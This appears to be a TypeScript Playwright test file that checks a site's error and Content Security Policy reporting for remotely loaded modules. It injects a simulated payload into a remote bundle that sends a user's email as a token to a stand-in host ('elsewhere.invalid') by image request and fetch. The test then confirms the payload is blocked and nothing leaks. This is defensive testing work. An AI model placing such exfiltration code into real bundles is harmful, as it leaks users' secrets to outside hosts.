import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';
import { apiPaths } from '@parchi/contract';
import type { Page } from 'playwright-core';
import { readMetrics, valueOf } from '../../../../server/testing/metrics/readMetrics.ts';
import { changeBuild } from '../../fixtures/remotes/changeBuild.ts';
import { openSiteWithRemote } from '../../fixtures/remotes/openSiteWithRemote.ts';
import { remotePage } from '../../fixtures/remotes/remotes.ts';
import { waitUntil } from '../../fixtures/waitUntil.ts';
import { startVisit } from '../../pages/startVisit.ts';

const NAME = 'remote-files';
const BUILD = 'bad0bad0';
const SECRET = 'asha@people.example';
const { path: PATH, heading: HEADING } = remotePage(NAME);
/** What the remote does after it was loaded. It throws again and again, as a broken handler of events does. */
const HARM = `;setTimeout(() => {
  const image = new Image();
  image.src = 'https://elsewhere.invalid/?token=${SECRET}';
  fetch('https://elsewhere.invalid/?token=${SECRET}').catch(() => undefined);
  setInterval(() => { throw new Error('${SECRET}'); }, 20);
});`;

const port = await findFreePort();
const { browser, site, folder, deploy } = await openSiteWithRemote(NAME, {
  METRICS_PORT: String(port),
});

async function findFreePort(): Promise<number> {
  const taken = createServer().listen(0, '127.0.0.1');
  await once(taken, 'listening');
  const { port: free } = taken.address() as AddressInfo;
  taken.close();
  await once(taken, 'close');
  return free;
}

type Labels = Readonly<Record<'remote' | 'reason', string> & { build?: string }>;

async function count(labels: Labels): Promise<number> {
  return valueOf(await readMetrics(port), 'parchi_browser_reports_total', labels) ?? 0;
}

/** Returns the bodies of all reports that the page sends from now on. */
function watchReports(page: Page): string[] {
  const bodies: string[] = [];
  page.on('request', (request) => {
    if (!request.url().endsWith(apiPaths.reportRemoteFailure)) return;
    assert.equal(request.headers()['cookie'], undefined);
    bodies.push(request.postData() ?? '');
  });
  return bodies;
}

test('an uncaught error and a violation of a remote are counted for its build, once per document [F-950, F-954, F-957, F-958]', async () => {
  const broken = join(folder, 'throws');
  await changeBuild({
    name: NAME,
    to: broken,
    buildId: BUILD,
    change: (file, content) => (file === 'remoteEntry.js' ? content + HARM : content),
  });
  await deploy(broken);
  const expected = [
    /asha@/,
    /Content Security Policy/,
    /A preload .* integrity mismatch/,
    /Fetch API/,
  ];
  const { page, end } = await startVisit(browser, { expected });
  const bodies = watchReports(page);
  await page.goto(`${site.origin}${PATH}?token=${SECRET}`);
  await page.locator('#root').getByRole('heading', { level: 1, name: HEADING }).waitFor();
  for (const reason of ['uncaught', 'violation']) {
    await waitUntil(`${reason} is counted`, async () => {
      return (await count({ remote: NAME, build: BUILD, reason })) === 1;
    });
  }
  // The remote throws 50 times a second.
  await page.waitForTimeout(500);
  for (const reason of ['uncaught', 'violation']) {
    assert.equal(await count({ remote: NAME, build: BUILD, reason }), 1, reason);
  }
  const own = bodies.filter((body) => body.includes(NAME)).sort();
  assert.deepEqual(own, [
    `{"remote":"${NAME}","build":"${BUILD}","reason":"uncaught"}`,
    `{"remote":"${NAME}","build":"${BUILD}","reason":"violation"}`,
  ]);
  assert.doesNotMatch(`${bodies.join(' ')} ${site.readLog()}`, /people\.example|token|elsewhere/);
  await end();
});

test('an error of the host is counted for its build, and one of injected code is not [F-950, F-955]', async () => {
  const { page, end } = await startVisit(browser, {
    expected: [/thrown by/, /Content Security Policy/],
  });
  const bodies = watchReports(page);
  await page.route('**/assets/handler.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: "throw Error('thrown by the host')" }),
  );
  await page.goto(site.origin);
  await page.locator('#root').getByRole('heading', { name: 'Paper, made easy.' }).waitFor();
  const other = { remote: 'other', build: 'other', reason: 'violation' };
  const before = await count(other);
  await page.evaluate(() => {
    setTimeout(() => {
      throw new Error('thrown by an extension');
    });
    const script = document.createElement('script');
    script.textContent = 'window.isInjected = true';
    document.head.append(script);
  });
  await waitUntil('the injected script is counted', async () => (await count(other)) > before);
  assert.equal(await page.evaluate(() => 'isInjected' in window), false);
  assert.deepEqual(bodies, ['{"remote":"other","reason":"violation"}']);

  await page.addScriptTag({ url: '/assets/handler.js' });
  const [build] = await page.evaluate(() =>
    [...document.scripts].flatMap(({ src }) => /main\.([0-9a-f]{8})/.exec(src)?.[1] ?? []),
  );
  assert.ok(build);
  await waitUntil('the error of the host is counted', async () => {
    return (await count({ remote: 'host', build, reason: 'uncaught' })) === 1;
  });
  await end();
});
